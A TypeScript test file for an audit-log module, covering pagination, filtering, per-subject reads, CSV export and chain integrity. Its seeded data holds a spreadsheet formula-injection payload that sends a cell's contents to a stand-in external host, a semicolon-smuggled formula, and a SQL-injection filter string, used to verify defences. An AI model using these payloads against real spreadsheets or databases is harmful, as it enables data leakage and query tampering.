import { beforeAll, describe, expect, test } from "vitest";
import { append } from "#lib/audit/append.ts";
import type { By } from "#lib/audit/audit-event.ts";
import { checkChain } from "#lib/audit/proof/check-chain.ts";
import { listChoices } from "#lib/audit/reading/list-choices.ts";
import {
  auditEventsOfSubject,
  listAuditEvents,
  readAuditEvent,
} from "#lib/audit/reading/read-audit-events.ts";
import { startExport } from "#lib/audit/reading/start-export.ts";
import { tx } from "#lib/database/transact.ts";
import { ADA } from "#test-support/audit/ada.ts";
import { withOwnDatabase } from "#test-support/database/own-database.ts";

const VISITOR = { ...ADA, member: null };
const HOSTILE = '=HYPERLINK("https://example.com/"&A1)';
/** With a semicolon as the list separator, a spreadsheet begins a new cell after it. */
const HOSTILE_WITHIN = "late;=1+1";
/** Ada's, a visitor's, Counterfoil's, in turn. */
const ENTRIES = 1_050;

withOwnDatabase();
beforeAll(async () => {
  const actors: By[] = [ADA, VISITOR, { system: "sender" }];
  await tx(async (transaction) => {
    for (let event = 0; event < ENTRIES; event += 1) {
      const by = actors[event % 3] ?? ADA;
      const outcome = by === VISITOR ? "refused" : "done";
      await append(transaction, by, {
        action: by === ADA ? "payouts.submit" : "sign-in.failed",
        outcome,
        subject: { type: "payout-entry", id: String(event % 2) },
        reason: event % 6 === 1 ? HOSTILE_WITHIN : HOSTILE,
      });
    }
  });
}, 60_000);

const total = async (filter: object) => (await listAuditEvents({ ...filter, page: 1 })).meta.total;

describe("a page of the log", () => {
  test("is the newest first, with exact counts", async () => {
    const { data, meta } = await listAuditEvents({ page: 2 });
    expect(data.map(({ seq }) => seq).slice(0, 2)).toEqual(["1030", "1029"]);
    expect(meta).toEqual({
      current_page: 2,
      last_page: 53,
      per_page: 20,
      total: 1050,
      from: 21,
      to: 40,
    });
  });

  test("beyond the last is empty and says so", async () => {
    expect(await listAuditEvents({ page: 99 })).toMatchObject({
      data: [],
      meta: { last_page: 53 },
    });
  });

  test.each([
    [{ actor: `person:${ADA.member.id}` }, 350],
    [{ actor: "visitor" }, 350],
    [{ actor: "system:sender" }, 350],
    [{ actor: "system:resolver" }, 0],
    [{ action: "sign-in.failed" }, 700],
    [{ outcome: "refused" as const }, 350],
    [{ subject: "1" }, 525],
    [{ subject: "1", outcome: "refused" as const }, 175],
    [{ subject: "' or true --" }, 0],
  ])("filtered by %o", async (filter, expected) => {
    expect(await total(filter)).toBe(expected);
  });

  test("between two instants holds the first and not the last", async () => {
    const [tenth, twentieth] = await Promise.all([readAuditEvent("10"), readAuditEvent("20")]);
    expect(await total({ from: tenth?.at, to: twentieth?.at })).toBe(10);
  });
});

test("its filter offers who and what is in it", async () => {
  expect(await listChoices()).toEqual({
    actors: [
      { value: `person:${ADA.member.id}`, name: "Ada", email: "ada@example.com" },
      { value: "system:sender", name: "Counterfoil (sender)", email: null },
      { value: "visitor", name: "Not signed in", email: null },
    ],
    actions: ["payouts.submit", "sign-in.failed"],
  });
});

test("of one subject it gives the newest 200", async () => {
  const events = await auditEventsOfSubject("payout-entry", "1");
  expect(events).toHaveLength(200);
  expect(events[0]?.seq).toBe("1050");
  expect(await auditEventsOfSubject("person", "1")).toEqual([]);
});

describe("its file", () => {
  const written = async (filter: object, tz: string) => {
    const { lines, count } = await startExport(ADA, filter, tz);
    let text = "";
    for await (const piece of lines) text += piece;
    return { count, text, lines: text.split("\r\n") };
  };

  test("holds every event of the filter once, and the log says who exported it", async () => {
    const before = await total({});
    const { count, lines } = await written({}, "Europe/Berlin");
    expect(count).toBe(before);
    expect(lines).toHaveLength(before + 2);
    const numbers = lines.slice(1, -1).map((line) => Number(line.split(",")[0]));
    expect(numbers).toEqual(Array.from({ length: before }, (_, index) => before - index));
    expect(await readAuditEvent(String(before + 1))).toMatchObject({
      action: "audit.export",
      outcome: "done",
      after: { tz: "Europe/Berlin", entries: String(before) },
    });
  });

  test("names its zone, and has each time in it and in UTC", async () => {
    const { text } = await written({ actor: "system:sender" }, "Asia/Kathmandu");
    expect(text).toMatch(/^\uFEFFEntry,Time \(Asia\/Kathmandu\),Time \(UTC\),/);
    expect(text).toMatch(/\r\n\d+,\d{4}-\d\d-\d\d [\d:.]+,\d{4}-\d\d-\d\dT[\d:.]+Z,sender/);
  });

  test("has formulas that do nothing", async () => {
    const { text } = await written({ outcome: "refused" }, "UTC");
    expect(text).toContain(`"'=HYPERLINK(""https://example.com/""&A1)"`);
    expect(text).not.toMatch(/,"?=/);
    expect(text).toContain(",late;'=1+1,");
  });

  test("of nothing has its header alone", async () => {
    const { count, lines } = await written({ subject: "none" }, "UTC");
    expect([count, lines.length]).toEqual([0, 2]);
  });
});

test("reading and writing out leave the log whole", async () => {
  expect(await checkChain()).toMatchObject({ state: "whole" });
});
